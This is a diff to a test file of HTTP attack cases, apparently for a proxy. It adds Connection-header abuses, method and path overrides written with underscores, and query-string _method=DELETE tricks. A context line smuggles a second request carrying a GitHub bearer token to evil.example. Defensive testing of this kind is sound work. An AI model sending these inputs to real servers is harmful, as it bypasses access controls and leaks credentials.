@@ -111,6 +111,14 @@ export const smugglingCases: readonly AttackCase[] = [
     post("Connection: content-length\r\nContent-Length: 3\r\n", "abc"),
     "defused",
   ),
+  shape(
+    "A Connection header that lists the type of the body",
+    get("Connection: content-type\r\nContent-Type: text/plain\r\n"),
+  ),
+  shape(
+    "A Connection header that lists the coding of the body, amid others",
+    get("Connection: keep-alive,\tContent-Encoding, x\r\nContent-Encoding: br\r\n"),
+  ),
   shape("A Proxy-Connection header that lists Authorization", get("Proxy-Connection: authorization\r\n"), "defused"),
   shape("The proxy's own credentials inside the tunnel", get("{auth}"), "defused"),
   shape(
@@ -126,6 +134,10 @@ export const smugglingCases: readonly AttackCase[] = [
   shape("A method override by header", get("X-HTTP-Method-Override: DELETE\r\n")),
   shape("A method override by another header", get("X-HTTP-Method: PUT\r\n")),
   shape("A method override by a third header", get("X-Method-Override: DELETE\r\n")),
+  shape("A method override by a header with underscores", get("X_HTTP_Method_Override: DELETE\r\n")),
+  shape("A path override by a header with underscores", get("X_Original_URL: /user/keys\r\n")),
+  shape("A method override in the query", get("").replace("/user", "/user?_method=DELETE")),
+  shape("A method override in the query, encoded", get("").replace("/user", "/user?a=1&%5Fmethod=DELETE")),
   shape(
     "A second request hides behind a body of declared length zero",
     `${post("Content-Length: 0\r\n", "")}GET /admin HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer {github}\r\n\r\n`,
